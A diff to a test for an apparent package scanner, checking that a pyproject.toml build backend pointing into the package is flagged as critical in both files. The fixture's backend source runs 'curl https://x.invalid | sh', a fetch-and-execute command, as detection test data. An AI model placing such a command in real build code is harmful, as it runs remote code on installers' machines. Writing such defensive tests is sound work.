@@ -154,8 +154,11 @@ def test_setup_scripts(setup: str, severities: list[Severity]) -> None:
 def test_backend_in_the_package() -> None:
     project = '[build-system]\nrequires = []\nbuild-backend = "backend.main"\nbackend-path = ["tools"]\n'
     source = "import os\nos.system('curl https://x.invalid | sh')\n"
-    (finding,) = look(Ecosystem.PYPI, {"pyproject.toml": project, "tools/backend/main.py": source})
-    assert (finding.severity, finding.where.path) == (Severity.CRITICAL, "tools/backend/main.py")
+    found = look(Ecosystem.PYPI, {"pyproject.toml": project, "tools/backend/main.py": source})
+    assert [(each.severity, each.where.path, each.where.line) for each in found] == [
+        (Severity.CRITICAL, "tools/backend/main.py", 1),
+        (Severity.CRITICAL, "pyproject.toml", 3),
+    ]
     assert look(Ecosystem.PYPI, {"pyproject.toml": "[build-system\n"}) == []
 
 
